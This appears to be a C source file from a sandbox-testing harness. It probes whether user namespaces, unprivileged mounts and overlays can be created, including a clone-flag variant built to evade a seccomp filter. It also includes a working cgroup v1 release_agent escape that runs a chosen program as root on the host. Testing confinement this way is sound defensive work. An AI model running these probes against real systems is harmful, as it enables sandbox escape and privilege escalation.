// Attacks that begin with a namespace of their own, where they are root again.
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "attack.h"

static int by_unshare(void* data) {
  (void)data;
  return unshare(CLONE_NEWUSER) == 0 ? kWon : kRefused;
}

static int by_clone(void* data) {
  (void)data;
  long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  return pid > 0 ? kWon : kRefused;
}

static int by_clone3(void* data) {
  (void)data;
  struct clone_args arguments = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
  long pid = syscall(SYS_clone3, &arguments, sizeof arguments);
  if (pid == 0) _exit(0);
  return pid > 0 ? kWon : kRefused;
}

// A filter sees 64 bits of unshare's flags, the kernel reads all of them, but clone's lower half only.
static int by_clone_high(void* data) {
  (void)data;
  long pid = syscall(SYS_clone, (1UL << 63) | CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  return pid > 0 ? kWon : kRefused;
}

static void user_namespace(int argc, char** argv) {
  (void)argc, (void)argv;
  if (in_child(by_unshare, NULL) == kWon) won("unshare made a user namespace");
  if (in_child(by_clone, NULL) == kWon) won("clone made a user namespace");
  if (in_child(by_clone_high, NULL) == kWon) won("clone with high bits made a user namespace");
  if (in_child(by_clone3, NULL) == kWon) won("clone3 made a user namespace");
  refused("no user namespace");
}

static void put(const char* path, const char* text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd >= 0 && write(fd, text, strlen(text)) < 0) perror(path);
  if (fd >= 0) close(fd);
}

// Root over new namespaces, mapped to what we were: an id that is not mapped can make no file.
static bool enter_own_namespaces(int flags) {
  char users[64], groups[64];
  snprintf(users, sizeof users, "0 %u 1", geteuid());
  snprintf(groups, sizeof groups, "0 %u 1", getegid());
  if (unshare(CLONE_NEWUSER | flags) != 0) return unshare(flags) == 0;
  put("/proc/self/setgroups", "deny");
  put("/proc/self/uid_map", users);
  put("/proc/self/gid_map", groups);
  return true;
}

static int mounts_tmpfs(void* data) {
  (void)data;
  if (!enter_own_namespaces(CLONE_NEWNS)) return kRefused;
  return mount("none", "/tmp", "tmpfs", 0, NULL) == 0 ? kWon : kRefused;
}

static int mounts_by_fd(void* data) {
  (void)data;
  if (!enter_own_namespaces(CLONE_NEWNS)) return kRefused;
  int context = (int)syscall(SYS_fsopen, "tmpfs", 1);
  if (context < 0) return kRefused;
  if (syscall(SYS_fsconfig, context, 6, NULL, NULL, 0) != 0) return kRefused;  // FSCONFIG_CMD_CREATE
  int made = (int)syscall(SYS_fsmount, context, 1, 0);
  return made >= 0 ? kWon : kRefused;
}

static int mounts_overlay(void* data) {
  (void)data;
  if (!enter_own_namespaces(CLONE_NEWNS)) return kRefused;
  // The layers are folders of our own; that the filesystem can be mounted at all is the gain.
  if (mount("none", "/tmp", "tmpfs", 0, NULL) != 0) return kRefused;
  if (mkdir("/tmp/l", 0755) || mkdir("/tmp/u", 0755) || mkdir("/tmp/w", 0755) || mkdir("/tmp/m", 0755))
    return kBroken;
  const char* options = "lowerdir=/tmp/l,upperdir=/tmp/u,workdir=/tmp/w,userxattr";
  return mount("overlay", "/tmp/m", "overlay", 0, options) == 0 ? kWon : kRefused;
}

static void mount_in_namespace(int argc, char** argv) {
  (void)argc, (void)argv;
  if (in_child(mounts_tmpfs, NULL) == kWon) won("mount in a namespace of our own");
  refused("nothing can be mounted");
}

static void mount_detached(int argc, char** argv) {
  (void)argc, (void)argv;
  if (in_child(mounts_by_fd, NULL) == kWon) won("fsopen and fsmount in a namespace of our own");
  refused("no detached mount");
}

static void overlay(int argc, char** argv) {
  (void)argc, (void)argv;
  if (in_child(mounts_overlay, NULL) == kWon) won("an overlay in a namespace of our own");
  refused("no overlay");
}

// cgroup v1: release_agent runs on the host, as root. A hierarchy of our own, without controllers, shows it
// without touching those of the machine.
static void release_agent(int argc, char** argv) {
  if (argc < 2) broken("usage: release-agent FOLDER AGENT");
  if (unshare(CLONE_NEWNS) != 0) (void)enter_own_namespaces(CLONE_NEWNS | CLONE_NEWCGROUP);
  if (mount("none", argv[0], "cgroup", 0, "none,name=sandstone_attack") != 0)
    refused("mount of a cgroup hierarchy");
  char path[600], group[512];
  snprintf(path, sizeof path, "%s/release_agent", argv[0]);
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  bool written = fd >= 0 && write(fd, argv[1], strlen(argv[1])) == (ssize_t)strlen(argv[1]);
  int error = errno;
  if (!written) {
    umount2(argv[0], 0);
    errno = error;
    refused("write of release_agent");
  }
  snprintf(path, sizeof path, "%s/notify_on_release", argv[0]);
  fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd >= 0 && write(fd, "1", 1) != 1) broken("notify_on_release");
  snprintf(group, sizeof group, "%s/attack", argv[0]);
  if (mkdir(group, 0755) != 0) broken("mkdir %s", group);
  pid_t pid = fork();
  if (pid == 0) {
    snprintf(path, sizeof path, "%s/cgroup.procs", group);
    int procs = open(path, O_WRONLY | O_CLOEXEC);
    _exit(procs >= 0 && write(procs, "0", 1) == 1 ? 0 : 1);
  }
  waitpid(pid, NULL, 0);
  usleep(300000);  // the agent is started by a kernel worker
  rmdir(group);
  snprintf(path, sizeof path, "%s/release_agent", argv[0]);
  fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd >= 0 && write(fd, "\n", 1) != 1) perror("reset of release_agent");
  close(fd);
  umount2(argv[0], 0);
  won("release_agent is %s", argv[1]);
}

const Attack kNamespaceAttacks[] = {
    {"user-namespace", user_namespace}, {"mount-in-namespace", mount_in_namespace},
    {"mount-detached", mount_detached}, {"overlay-in-namespace", overlay},
    {"release-agent", release_agent},   {NULL, NULL},
};
